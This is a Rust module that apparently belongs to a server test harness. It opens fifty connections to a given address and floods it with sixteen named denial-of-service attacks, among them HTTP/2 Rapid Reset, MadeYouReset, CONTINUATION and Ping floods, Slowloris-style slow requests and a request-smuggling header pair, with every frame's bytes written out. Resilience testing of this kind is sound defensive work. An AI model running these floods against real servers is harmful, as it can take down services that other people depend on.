//! A client that means harm by numbers: many connections, each of which sends what costs its receiver more than itself.
//!
//! Every connection sends as much as [`QUOTA`] and is then held; one that its receiver ended is opened again, [`ATTEMPTS`] times at
//! most. When all have come so far it says [`DONE`], so that what is measured then does not depend on how fast anybody was.

use std::cell::Cell;
use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::time::{sleep, timeout};

use super::READY;
use super::flags::Flags;
use crate::Failure;

/// What is sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum Flood {
    ChunkedGarbage,
    Continuation,
    EmptyData,
    HeadersTooLarge,
    Http2Garbage,
    MadeYouReset,
    Ping,
    Priority,
    RapidReset,
    Settings,
    /// Heads and bodies that come a byte at a time.
    SlowBody,
    SlowHead,
    /// Asks for large answers on many streams, opens every window, and reads nothing.
    SlowReader,
    Smuggling,
    /// Garbage behind the beginning of TLS.
    TlsGarbage,
    WindowUpdate,
}

/// All has been sent that is to be sent.
pub const DONE: &str = "done";

const CONNECTIONS: usize = 50;
/// Of each connection: some ten thousand of HTTP/2's smallest frames.
const QUOTA: usize = 128 * 1024;
const ATTEMPTS: usize = 10;
/// Between the bytes of those who are slow, and how many they send.
const PAUSE: Duration = Duration::from_millis(200);
const SLOW_BYTES: usize = 3;
/// A receiver that takes nothing for so long, and one that says nothing to what is wrong, leaves the connection as it is.
const LEFT_ALONE: Duration = Duration::from_secs(2);

pub(super) fn run(flags: &Flags) -> Result<(), Failure> {
    let (address, flood): (SocketAddr, Flood) = (flags.parsed("address")?, flags.json("flood")?);
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let tasks = tokio::task::LocalSet::new();
    let busy = Rc::new(Cell::new(CONNECTIONS));
    for _ in 0..CONNECTIONS {
        let busy = Rc::clone(&busy);
        tasks.spawn_local(async move {
            let held = flood.begin(address).await;
            busy.set(busy.get() - 1);
            if busy.get() == 0 {
                println!("{DONE}");
            }
            if let Some(connection) = held {
                flood.hold(connection).await;
            }
        });
    }
    println!("{READY}");
    runtime.block_on(async {
        tasks.await;
        // until it is killed
        std::future::pending::<()>().await;
    });
    Ok(())
}

type Connection = (OwnedReadHalf, OwnedWriteHalf);

impl Flood {
    /// Sends what is to be sent; gives back the connection if its receiver let it be.
    async fn begin(self, address: SocketAddr) -> Option<Connection> {
        let mut sent = 0;
        for _ in 0..ATTEMPTS {
            // refused, reset, closed: it tries again
            if let Ok(connection) = self.attack(address, &mut sent).await {
                return Some(connection);
            }
            if sent >= QUOTA {
                break;
            }
        }
        None
    }

    async fn attack(self, address: SocketAddr, sent: &mut usize) -> io::Result<Connection> {
        let (mut read, mut write) = TcpStream::connect(address).await?.into_split();
        tokio::select! {
            written = self.send(&mut write, sent) => written?,
            ended = self.read(&mut read) => return Err(ended),
        }
        Ok((read, write))
    }

    async fn send(self, write: &mut OwnedWriteHalf, sent: &mut usize) -> io::Result<()> {
        let (begin, again) = self.bytes();
        write.write_all(&begin).await?;
        *sent += begin.len();
        if again.is_empty() {
            sleep(LEFT_ALONE).await;
        } else if matches!(self, Flood::SlowBody | Flood::SlowHead) {
            for _ in 0..SLOW_BYTES {
                sleep(PAUSE).await;
                write.write_all(&again).await?;
            }
        } else {
            while *sent < QUOTA {
                let Ok(written) = timeout(LEFT_ALONE, write.write_all(&again)).await else { break };
                written?;
                *sent += again.len();
            }
        }
        Ok(())
    }

    /// Until the other end ends it: why.
    async fn read(self, read: &mut OwnedReadHalf) -> io::Error {
        if self == Flood::SlowReader {
            return std::future::pending().await;
        }
        let mut sink = vec![0; 16 * 1024];
        loop {
            match read.read(&mut sink).await {
                Ok(0) => return io::ErrorKind::UnexpectedEof.into(),
                Ok(_) => {}
                Err(error) => return error,
            }
        }
    }

    async fn hold(self, (mut read, _write): Connection) {
        // ended or not, there is nothing more to do
        let _ = self.read(&mut read).await;
    }

    /// What is sent first, and what then again and again.
    fn bytes(self) -> (Vec<u8>, Vec<u8>) {
        let greeting = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(4, 0, 0, &[])].concat();
        let post = frame(1, 4, 1, POST);
        let more = |again: &[u8]| (greeting.clone(), again.repeat(200));
        match self {
            Flood::SlowHead => (b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec(), b"X: y\r\n".to_vec()),
            Flood::SlowBody => {
                (b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000000\r\n\r\n".to_vec(), b"x".to_vec())
            }
            Flood::HeadersTooLarge => {
                (b"GET / HTTP/1.1\r\nHost: a\r\n".to_vec(), format!("X: {}\r\n", "y".repeat(8_000)).into_bytes())
            }
            Flood::SlowReader => {
                let windows =
                    [frame(4, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]), frame(8, 0, 0, &[0x7f, 0xfe, 0, 0])].concat();
                let requests = (0..100).flat_map(|number| frame(1, 5, 2 * number + 1, LARGE));
                ([greeting, windows, requests.collect()].concat(), Vec::new())
            }
            Flood::Smuggling => {
                let head =
                    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
                (head.as_bytes().to_vec(), Vec::new())
            }
            Flood::ChunkedGarbage => {
                let head = "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n";
                (format!("{head}zz\r\n").into_bytes(), b"ffffffffffffffffffff".repeat(100))
            }
            Flood::TlsGarbage => (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(), vec![0xff; 4_000]),
            Flood::RapidReset => {
                let pair = |stream| [frame(1, 5, stream, GET), frame(3, 0, stream, &[0, 0, 0, 8])].concat();
                let all: Vec<u8> = (0..2_000).flat_map(|number| pair(2 * number + 1)).collect();
                ([greeting, all].concat(), Vec::new())
            }
            Flood::MadeYouReset => {
                let pair =
                    |stream| [frame(1, 4, stream, POST), frame(8, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat();
                let all: Vec<u8> = (0..1_000).flat_map(|number| pair(2 * number + 1)).collect();
                ([greeting, all].concat(), Vec::new())
            }
            Flood::Continuation => ([greeting, frame(1, 1, 1, GET)].concat(), frame(9, 0, 1, &[]).repeat(200)),
            Flood::EmptyData => ([greeting, post].concat(), frame(0, 0, 1, &[]).repeat(200)),
            Flood::Http2Garbage => (greeting, vec![0xff; 1_000]),
            Flood::Ping => more(&frame(6, 0, 0, &[7; 8])),
            Flood::Priority => more(&frame(2, 0, 1, &[0, 0, 0, 3, 7])),
            Flood::Settings => more(&frame(4, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])),
            Flood::WindowUpdate => more(&frame(8, 0, 0, &[0x7f, 0xff, 0xff, 0xff])),
        }
    }
}

/// `:method GET`, `:scheme http`, `:path /` by index, `:authority a`; and the same with POST.
const GET: &[u8] = &[0x82, 0x86, 0x84, 0x41, 1, b'a'];
const POST: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'a'];
/// GET with `x-answer-bytes: 9999999`.
const LARGE: &[u8] = b"\x82\x86\x84\x41\x01a\x00\x0ex-answer-bytes\x079999999";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}
